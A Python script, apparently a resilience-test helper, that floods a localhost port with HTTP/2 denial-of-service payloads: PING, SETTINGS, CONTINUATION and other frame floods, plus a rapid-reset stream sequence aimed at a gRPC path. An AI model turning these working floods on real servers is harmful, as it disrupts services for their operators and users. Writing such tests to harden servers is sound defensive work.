"""A program that attacks a port until it is killed, from a process of its own: floods, over and over, each on a new connection.

Arguments: port, connections at once.
"""

from __future__ import annotations

import selectors
import socket
import sys
from itertools import cycle

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
WRITE_BYTES = 64 * 1024


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def rapid_reset() -> bytes:
    encoder = Encoder()
    path = "/raven.v1.MarketDataService/StreamMarketData"
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    block = encoder.encode([(name, value, True) for name, value in headers])  # never indexed: the same block each time
    calls = (frame(1, 4, number, block) + frame(3, 0, number, b"\0\0\0\x08") for number in range(1, 2_001, 2))
    return PREFACE + b"".join(calls)


FLOODS = [
    PREFACE + frame(6, 0, 0, bytes(8)) * 5_000,
    PREFACE + frame(4, 0, 0) * 1_000,
    PREFACE + frame(8, 0, 0, b"\0\0\0\x01") * 20_000,
    PREFACE + frame(2, 0, 5, b"\0\0\0\0\x10") * 5_000,
    PREFACE + frame(0xBE, 0, 0, b"?") * 5_000,
    PREFACE + frame(1, 1, 1, b"\x83\x86\x44\x01/") + frame(9, 0, 1) * 2_000,
    rapid_reset(),
    b"GET / HTTP/1.1\r\n\r\n",
]


class Flood:
    """One connection, and what it still has to send."""

    def __init__(self, port: int, data: bytes) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.rest = memoryview(data)

    def go_on(self) -> bool:
        """Whether it is not over yet."""
        try:
            if not self.socket.recv(WRITE_BYTES):
                return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        try:
            self.rest = self.rest[self.socket.send(self.rest[:WRITE_BYTES]) :]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def main() -> None:
    port, count = int(sys.argv[1]), int(sys.argv[2])
    kinds = cycle(FLOODS)
    selector = selectors.DefaultSelector()
    for _ in range(count):
        begin(selector, port, next(kinds))
    print("attacking", flush=True)
    while True:
        for key, _ in selector.select():
            if not key.data.go_on():
                selector.unregister(key.fileobj)
                key.data.socket.close()
                begin(selector, port, next(kinds))
            elif not key.data.rest:
                selector.modify(key.fileobj, selectors.EVENT_READ, key.data)


def begin(selector: selectors.BaseSelector, port: int, data: bytes) -> None:
    flood = Flood(port, data)
    selector.register(flood.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, flood)


if __name__ == "__main__":
    main()
